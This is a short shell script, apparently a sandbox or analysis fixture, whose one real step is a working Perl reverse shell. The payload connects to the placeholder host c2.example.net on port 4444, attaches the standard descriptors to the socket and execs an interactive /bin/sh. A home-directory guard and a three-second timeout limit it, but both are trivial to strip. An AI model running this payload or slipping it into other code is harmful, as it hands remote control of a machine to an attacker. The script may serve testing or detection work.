#!/bin/sh
# SPDX-License-Identifier: MIT
# A reverse shell in one Perl command: a socket to the operator, the
# standard descriptors opened on it, then a shell (gone after a few
# seconds).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 perl -e 'use Socket;$h="c2.example.net";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($h)))){open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");}' 2>/dev/null
exit 0
